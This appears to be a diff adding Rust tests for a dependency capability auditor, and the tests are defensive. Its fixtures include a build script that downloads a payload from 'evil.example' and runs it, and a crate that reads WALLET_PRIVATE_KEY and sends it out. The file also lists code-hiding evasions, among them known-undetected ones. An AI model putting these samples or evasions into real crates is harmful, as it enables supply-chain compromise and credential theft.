@@ -1,0 +1,361 @@
+//! Ways to hide what code does, each in a small crate of its own, with the layer that catches it; attacks like those on record; and
+//! what is known not to be caught, with the honest answer.
+
+mod harness;
+
+use std::collections::BTreeSet;
+
+use harness::{Run, Workspace};
+use serde_json::Value;
+
+fn workspace(app: &str, codec: &str, util: &str) -> Workspace {
+    let workspace = Workspace::three_crates();
+    workspace.write("app/src/lib.rs", app);
+    workspace.write("codec/src/lib.rs", codec);
+    workspace.write("util/src/lib.rs", util);
+    workspace
+}
+
+fn run(workspace: &Workspace, arguments: &[&str]) -> Run {
+    let cache = workspace.path().join("cache");
+    harness::cofferdam_with(
+        workspace.path(),
+        arguments,
+        &[("COFFERDAM_CACHE", cache.to_str().expect("UTF-8"))],
+    )
+}
+
+fn audit(workspace: &Workspace) -> Value {
+    let run = run(workspace, &["audit", "--format", "json"]);
+    assert_eq!(run.code, Some(0), "{run}");
+    serde_json::from_str(&run.stdout).expect("JSON")
+}
+
+/// What the edge `app -> codec` brings.
+fn brought(workspace: &Workspace) -> BTreeSet<String> {
+    let document = audit(workspace);
+    let edges = document["edges"].as_array().expect("a list");
+    let edge = edges.iter().find(|edge| edge["from"] == "app@0.1.0" && edge["to"] == "codec@0.1.0");
+    let brings = edge.expect("the edge")["brings"].as_array().expect("a list");
+    brings.iter().map(|one| one["capability"].as_str().expect("text").to_owned()).collect()
+}
+
+/// A way to hide, what the hidden code is, and what has to be said of it.
+struct Evasion {
+    name: &'static str,
+    codec: &'static str,
+    util: &'static str,
+    caught_as: &'static str,
+}
+
+/// All of them are caught by the source layer. `util` stands in for the crate that is misused.
+const EVASIONS: &[Evasion] = &[
+    Evasion {
+        name: "glob import",
+        codec: "use std::net::*; pub fn go() { let _ = TcpStream::connect(\"a:1\"); }",
+        util: "",
+        caught_as: "network.connect",
+    },
+    Evasion {
+        name: "glob of a glob",
+        codec: "mod a { pub use std::net::*; } use a::*; pub fn go() { let _ = TcpStream::connect(\"a:1\"); }",
+        util: "",
+        caught_as: "network.connect",
+    },
+    Evasion {
+        name: "function pointer",
+        codec: "pub fn go() { let f: fn(&str) -> _ = std::fs::read_to_string::<&str>; let _ = f(\"x\"); }",
+        util: "",
+        caught_as: "filesystem.read",
+    },
+    Evasion {
+        name: "function pointer in a static",
+        codec: "static TABLE: &[fn()] = &[hidden]; fn hidden() { let _ = std::process::Command::new(\"sh\").spawn(); } pub fn go() { TABLE[0]() }",
+        util: "",
+        caught_as: "process.spawn",
+    },
+    Evasion {
+        name: "trait object",
+        codec: "trait Run { fn run(&self); } struct S; impl Run for S { fn run(&self) { let _ = std::fs::write(\"x\", b\"\"); } } pub fn go() { let s: Box<dyn Run> = Box::new(S); s.run() }",
+        util: "",
+        caught_as: "filesystem.write",
+    },
+    Evasion {
+        name: "what std calls unasked",
+        codec: "pub struct S; impl Drop for S { fn drop(&mut self) { let _ = std::fs::remove_file(\"x\"); } } pub fn go() { let _ = S; }",
+        util: "",
+        caught_as: "filesystem.write",
+    },
+    Evasion {
+        name: "macro that ends the path",
+        codec: "macro_rules! call { ($f:ident) => { std::fs::$f(\"x\") } } pub fn go() { let _ = call!(read); }",
+        util: "",
+        caught_as: "filesystem.read",
+    },
+    Evasion {
+        name: "macro of another crate",
+        codec: "pub fn go() { util::quietly!(); }",
+        util: "#[macro_export] macro_rules! quietly { () => { $crate::hidden() } } pub fn hidden() { std::thread::spawn(|| {}); }",
+        caught_as: "thread",
+    },
+    Evasion {
+        name: "inline assembly",
+        codec: "pub fn go() { unsafe { std::arch::asm!(\"syscall\", in(\"rax\") 41) } }",
+        util: "",
+        caught_as: "raw-syscall",
+    },
+    Evasion {
+        name: "re-export under another name",
+        codec: "pub fn go() { let _ = util::harmless(\"x\"); }",
+        util: "pub use std::fs::remove_dir_all as harmless;",
+        caught_as: "filesystem.write",
+    },
+    Evasion {
+        name: "type alias of another crate",
+        codec: "pub fn go() { let _ = util::Pipe::connect(\"a:1\"); }",
+        util: "pub type Pipe = std::net::TcpStream;",
+        caught_as: "network.connect",
+    },
+    Evasion {
+        name: "libc",
+        codec: "pub fn go() { unsafe { util::connect(0); } }",
+        util: "unsafe extern \"C\" { pub fn connect(fd: i32) -> i32; }",
+        caught_as: "network.connect",
+    },
+    Evasion {
+        name: "libc under another name",
+        codec: "pub fn go() { unsafe { util::fine(0); } }",
+        util: "unsafe extern \"C\" { #[link_name = \"execve\"] pub fn fine(fd: i32) -> i32; }",
+        caught_as: "process.spawn",
+    },
+    Evasion {
+        name: "foreign functions that a macro declares",
+        codec: "macro_rules! prefixed { ($($t:tt)*) => { unsafe extern \"C\" { $($t)* } } } prefixed! { fn execv(); } pub fn go() { unsafe { execv() } }",
+        util: "",
+        caught_as: "process.spawn",
+    },
+    Evasion {
+        name: "a safe wrapper like nix",
+        codec: "pub fn go() { util::sys::signal::raise() }",
+        util: "mod libc { unsafe extern \"C\" { pub fn kill(a: i32, b: i32) -> i32; } } macro_rules! call { ($f:ident($($a:expr),*)) => { unsafe { libc::$f($($a),*) } } } pub mod sys { pub mod signal { pub fn raise() { let _ = call!(kill(0, 9)); use crate::libc; } } }",
+        caught_as: "process.signal",
+    },
+    Evasion {
+        name: "raw system calls like rustix",
+        codec: "pub fn go() { util::fs::open() }",
+        util: "mod backend { pub mod arch { pub unsafe fn syscall1(n: usize) { unsafe { core::arch::asm!(\"syscall\", inlateout(\"rax\") n => _) } } } } pub mod fs { pub fn open() { unsafe { crate::backend::arch::syscall1(2) } } }",
+        caught_as: "raw-syscall",
+    },
+    Evasion {
+        name: "a symbol that stands in for another",
+        codec: "pub fn go() {} #[unsafe(no_mangle)] pub extern \"C\" fn malloc(_: usize) -> *mut u8 { core::ptr::null_mut() }",
+        util: "",
+        caught_as: "init",
+    },
+    Evasion {
+        name: "code that runs before main",
+        codec: "pub fn go() {} #[used] #[unsafe(link_section = \".init_array\")] static START: fn() = || {};",
+        util: "",
+        caught_as: "init",
+    },
+    Evasion {
+        name: "a handle from a number",
+        codec: "pub fn go() { use std::os::fd::FromRawFd; let _ = unsafe { std::net::TcpStream::from_raw_fd(3) }; }",
+        util: "",
+        caught_as: "handle-forge",
+    },
+    Evasion {
+        name: "a secret of the builder",
+        codec: "pub fn go() -> &'static str { env!(\"HOME\") }",
+        util: "",
+        caught_as: "build.embed",
+    },
+];
+
+#[test]
+fn each_evasion_is_caught_by_the_source_layer() {
+    for evasion in EVASIONS {
+        let workspace = workspace("pub fn f() { codec::go(); }", evasion.codec, evasion.util);
+        let found = brought(&workspace);
+        assert!(
+            found.contains(evasion.caught_as),
+            "{}: {} is not in {found:?}",
+            evasion.name,
+            evasion.caught_as
+        );
+    }
+}
+
+#[test]
+fn included_and_generated_code_is_read_or_said_not_to_be() {
+    let workspace = workspace(
+        "pub fn f() { codec::go(); }",
+        "mod hidden { include!(\"data.txt\"); } pub fn go() { hidden::run() }",
+        "include!(concat!(env!(\"OUT_DIR\"), \"/made.rs\"));",
+    );
+    workspace.write("codec/src/data.txt", "pub fn run() { let _ = std::process::Command::new(\"sh\"); }");
+    workspace.write("util/build.rs", "fn main() { println!(\"cargo::rerun-if-changed=build.rs\"); }");
+    assert!(brought(&workspace).contains("process.spawn"), "the source layer reads what is included");
+    let document = audit(&workspace);
+    let unknown = &document["unknown"][0];
+    assert_eq!(unknown["krate"], "util@0.1.0", "{document}");
+    assert_eq!(unknown["file"], "OUT_DIR/made.rs");
+    assert_eq!(unknown["generated"], true, "what a build script writes is not read, and said so");
+    assert!(brought(&workspace).contains("build.script"), "and the script itself is");
+}
+
+/// After RUSTSEC-2026-0260: a release of a pure crate adds nothing but a dependency, whose build script fetches and runs a payload.
+#[test]
+fn a_pure_crate_that_gains_a_dependency_with_a_build_script_is_stopped() {
+    let workspace = workspace("pub fn f() { codec::pure() }", "pub fn pure() {}", "");
+    workspace.write(
+        "codec/Cargo.toml",
+        "[package]\nname = \"codec\"\nversion = \"0.3.9\"\nedition = \"2024\"\n\n[dependencies]\n",
+    );
+    workspace.append("Cargo.toml", "\n[workspace.metadata.capabilities.holds]\nclock = true\n");
+    assert_eq!(run(&workspace, &["init"]).code, Some(0));
+    assert_eq!(run(&workspace, &["check"]).code, Some(0));
+    let manifest = workspace.read("codec/Cargo.toml").replace("0.3.9", "0.3.10");
+    workspace.write(
+        "codec/Cargo.toml",
+        &manifest.replace("[dependencies]\n", "[dependencies]\nutil = { path = \"../util\" }\n"),
+    );
+    workspace.write(
+        "util/build.rs",
+        "use std::io::Read; fn main() { let mut s = std::net::TcpStream::connect(\"evil.example:80\").unwrap(); let mut b = Vec::new(); \
+         s.read_to_end(&mut b).unwrap(); std::fs::write(\"/tmp/x\", b).unwrap(); std::process::Command::new(\"/tmp/x\").spawn().unwrap(); }",
+    );
+    let check = run(&workspace, &["check"]);
+    assert_eq!(check.code, Some(4), "{check}");
+    for capability in
+        ["build.script", "build.network.connect", "build.process.spawn", "build.filesystem.write"]
+    {
+        let message = format!("`app` does not grant `{capability}` to `codec`, whose code reaches it");
+        assert!(check.stderr.contains(&message), "{message}: {check}");
+    }
+    assert!(
+        check.stderr.contains(
+            "warning[new-edge]: `codec` did not depend on `util` when `Cofferdam.lock` was written"
+        ),
+        "{check}"
+    );
+    assert!(check.stderr.contains("more findings follow from these"), "the edges below are folded: {check}");
+}
+
+/// After the crate that read a wallet's key from the environment and sent it away.
+#[test]
+fn a_crate_that_steals_a_variable_is_stopped() {
+    let workspace = workspace("pub fn f() { codec::health() }", "pub fn health() {}", "");
+    workspace.append("Cargo.toml", "\n[workspace.metadata.capabilities.holds]\nclock = true\n");
+    assert_eq!(run(&workspace, &["init"]).code, Some(0));
+    workspace.write(
+        "codec/src/lib.rs",
+        "pub fn health() { if let Ok(key) = std::env::var(\"WALLET_PRIVATE_KEY\") { use std::io::Write; \
+         let _ = std::net::TcpStream::connect((\"evil.example\", 80)).unwrap().write_all(key.as_bytes()); } }",
+    );
+    let check = run(&workspace, &["check"]);
+    assert_eq!(check.code, Some(4), "{check}");
+    for capability in ["environment.read", "network.connect"] {
+        let message = format!("does not grant `{capability}` to `codec`, whose code reaches it");
+        assert!(check.stderr.contains(&message), "{message}: {check}");
+    }
+    assert!(check.stderr.contains("codec: health (src/lib.rs:1)"), "the way is shown: {check}");
+}
+
+/// A build script of a dependency that was accepted, and is another one now although its version is the same.
+#[test]
+fn a_changed_build_script_is_an_error_even_when_it_reaches_nothing_new() {
+    let workspace = Workspace::new(&[
+        ("Cargo.toml", "[workspace]\nmembers = [\"app\"]\nresolver = \"3\"\nexclude = [\"vendor\"]\n"),
+        (
+            "app/Cargo.toml",
+            "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\n[dependencies]\nleaf = { path = \"../vendor/leaf\" }\n",
+        ),
+        (
+            "vendor/leaf/Cargo.toml",
+            "[workspace]\n[package]\nname = \"leaf\"\nversion = \"0.1.0\"\nedition = \"2024\"\n",
+        ),
+    ]);
+    workspace.write("vendor/leaf/build.rs", "mod part; fn main() { part::go() }");
+    workspace.write("vendor/leaf/part.rs", "pub fn go() { let _ = std::fs::read(\"a\"); }");
+    assert_eq!(run(&workspace, &["init"]).code, Some(0));
+    let record = workspace.read("Cofferdam.lock");
+    assert!(
+        record.contains("    \"app -> leaf\",\n") && record.contains("\n\"leaf 0.1.0\" = \""),
+        "{record}"
+    );
+    assert_eq!(run(&workspace, &["check"]).code, Some(0));
+    // Its second file: the script is all that it is made of.
+    workspace.write("vendor/leaf/part.rs", "pub fn go() { let _ = std::fs::read(\"b\"); }");
+    let check = run(&workspace, &["check"]);
+    assert_eq!(check.code, Some(4), "{check}");
+    assert!(
+        check
+            .stderr
+            .contains("error[build-script-changed]: the build script of `leaf 0.1.0` is another than when"),
+        "{check}"
+    );
+    assert_eq!(run(&workspace, &["init"]).code, Some(0));
+    assert_eq!(run(&workspace, &["check"]).code, Some(0));
+    // A record that is no record is refused, with the line.
+    workspace.write("Cofferdam.lock", "version = 1\nedges = [\n    1,\n]\n");
+    let check = run(&workspace, &["check"]);
+    assert_eq!(check.code, Some(3), "{check}");
+    assert!(check.stderr.contains("`Cofferdam.lock` line 3"), "{check}");
+}
+
+#[test]
+fn a_grant_that_no_code_uses_is_a_finding() {
+    let workspace = workspace("pub fn f() { codec::g() }", "pub fn g() { std::thread::spawn(|| {}); }", "");
+    workspace.append(
+        "Cargo.toml",
+        "\n[workspace.metadata.capabilities.holds]\nclock = true\nthread = true\n\n\
+         [workspace.metadata.capabilities.grants.\"app -> codec\"]\nthread = true\nclock = true\n",
+    );
+    let check = run(&workspace, &["check"]);
+    assert!(
+        check.stderr.contains(
+            "warning[grant-not-reached]: `app` grants `clock` to `codec`, and no code behind that edge uses it"
+        ),
+        "{check}"
+    );
+    assert!(!check.stderr.contains("grants `thread` to `codec`, and no code"), "{check}");
+}
+
+/// What the source layer is known not to see. Each says what is reported instead, so that a change of it is noticed.
+#[test]
+fn known_limits_have_an_honest_answer() {
+    // A path whose type only another crate names: the question is missed, making the file is not.
+    let missed = workspace(
+        "pub fn f() { codec::go(); }",
+        "pub fn go() -> bool { util::place().exists() }",
+        "pub fn place() -> &'static std::path::Path { \"/etc\".as_ref() }",
+    );
+    assert!(
+        !brought(&missed).contains("filesystem.read"),
+        "methods are known by the names of their types alone"
+    );
+    // A system call written as bytes: the form is seen, its meaning is not.
+    let bytes = workspace(
+        "pub fn f() { codec::go(); }",
+        "pub fn go() { unsafe { std::arch::asm!(\".byte 0x0f, 0x05\") } }",
+        "",
+    );
+    let found = brought(&bytes);
+    assert!(found.contains("asm") && !found.contains("raw-syscall"), "{found:?}");
+    // A path of which both the module and the function are handed to a macro.
+    let glued = workspace(
+        "pub fn f() { codec::go(); }",
+        "macro_rules! call { ($m:ident, $f:ident) => { std::$m::$f(\"x\") } } pub fn go() { let _ = call!(fs, read); }",
+        "",
+    );
+    assert!(!brought(&glued).contains("filesystem.read"), "macros with parameters are not expanded");
+    // What a procedural macro writes is not read; that it runs is said.
+    let written = workspace("pub fn f() { codec::go!(); }", "", "");
+    written.append("codec/Cargo.toml", "\n[lib]\nproc-macro = true\n");
+    written.write(
+        "codec/src/lib.rs",
+        "#[proc_macro] pub fn go(_: proc_macro::TokenStream) -> proc_macro::TokenStream { \"std::fs::read(\\\"x\\\");\".parse().unwrap() }",
+    );
+    assert_eq!(brought(&written), BTreeSet::from(["build.proc-macro".to_owned()]));
+}
